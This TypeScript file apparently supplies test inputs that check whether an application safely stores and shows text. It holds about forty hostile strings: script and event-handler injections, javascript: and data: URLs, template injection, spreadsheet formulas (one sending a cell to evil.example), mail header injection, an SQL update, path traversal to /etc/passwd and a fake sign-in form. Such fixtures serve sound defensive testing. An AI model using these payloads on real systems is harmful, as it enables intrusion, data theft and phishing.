/** A text that some reader of it would obey. `mark` is in it, and in no other. */
export type HostileText = { what: string; text: string }

/** What a page that runs one of them does: it sets this on its window. */
export const RAN = '__ran'
const run = `window.${RAN}=1`
const svg = `<svg xmlns="http://www.w3.org/2000/svg" onload="${run}"/>`

/** Forty kinds, as they are tried on what stores and shows texts; each is short enough for a name. */
export const hostileTexts: readonly HostileText[] = [
  { what: 'a script', text: `<script>${run}</script>` },
  { what: 'a script that closes one first', text: `</script><script>${run}</script>` },
  { what: 'a script after a closing quote', text: `"><script>${run}</script>` },
  { what: 'a picture that fails', text: `<img src=x onerror="${run}">` },
  { what: 'a picture without quotes', text: `<img/src/onerror=${run}>` },
  {
    what: 'a handler out of an attribute',
    text: `" onmouseover="${run}" autofocus onfocus="${run}`,
  },
  { what: 'a handler out of a single quote', text: `' autofocus onfocus='${run}` },
  { what: 'an SVG', text: svg },
  { what: 'an SVG in an address', text: `data:image/svg+xml,${encodeURIComponent(svg)}` },
  { what: 'an animated SVG', text: `<svg><animate onbegin="${run}" attributeName=x dur=1s>` },
  { what: 'a frame', text: `<iframe srcdoc="<script>parent.${RAN}=1</script>">` },
  { what: 'an opened detail', text: `<details open ontoggle="${run}">x</details>` },
  { what: 'a javascript: address', text: `javascript:${run}` },
  { what: 'a javascript: address in disguise', text: `java\tscript:${run}` },
  { what: 'a link to one', text: `<a href="javascript:${run}">press</a>` },
  { what: 'a page as an address', text: `data:text/html,<script>opener.${RAN}=1</script>` },
  { what: 'a base', text: '<base href="https://evil.example/">' },
  { what: 'a redirect', text: '<meta http-equiv="refresh" content="0;url=https://evil.example">' },
  { what: 'a style', text: '<style>*{display:none}</style>' },
  { what: 'the end of a title and a text box', text: `</title></textarea><script>${run}</script>` },
  { what: 'the end of a comment', text: `--><img src=x onerror=${run}><!--` },
  { what: 'a form', text: '<form action="https://evil.example"><input name=p><button>Sign in' },
  {
    what: 'entities',
    text: `&lt;script&gt;${run}&lt;/script&gt;&#60;img src=x onerror=${run}&#62;`,
  },
  { what: 'a template of Angular', text: `{{constructor.constructor('${run}')()}}` },
  { what: 'a template of JavaScript', text: `\${${run}} <%= ${run} %> #{${run}}` },
  { what: 'a replacement pattern', text: "$& $` $' $1 %s %d {0}" },
  { what: 'a formula', text: '=HYPERLINK("https://evil.example?"&A1,"Open")' },
  { what: 'a formula by plus', text: "+cmd|' /C calc'!A0" },
  { what: 'a formula by minus', text: '-2+3+cmd|x!A0' },
  { what: 'a formula by at', text: '@SUM(1+1)*cmd|x!A0' },
  { what: 'a formula in a second cell', text: 'a",=1+1,"b' },
  { what: 'a header of a mail', text: 'Name\r\nBcc: evil@example.com\r\nX-Evil: 1' },
  { what: 'the end of a mail', text: 'Name\r\n.\r\nMAIL FROM:<evil@example.com>' },
  { what: 'an encoded word', text: '=?UTF-8?B?PHNjcmlwdD4=?= <evil@example.com>' },
  { what: 'SQL', text: "'; update orders set status = 'Deleted'; --" },
  { what: 'a path', text: '..\\..\\/../../etc/passwd' },
  { what: 'text that runs backwards', text: 'card\u202Egpj.exe\u2066x\u2069' },
  { what: 'invisible and stacked characters', text: `a\u200B\uFEFF\u0301${'\u0315'.repeat(40)}` },
  { what: 'a word that stands for nothing', text: 'null' },
  { what: 'the end of a text in a PDF', text: ') Tj ET /JS (app.alert(1)) /OpenAction <<' },
]
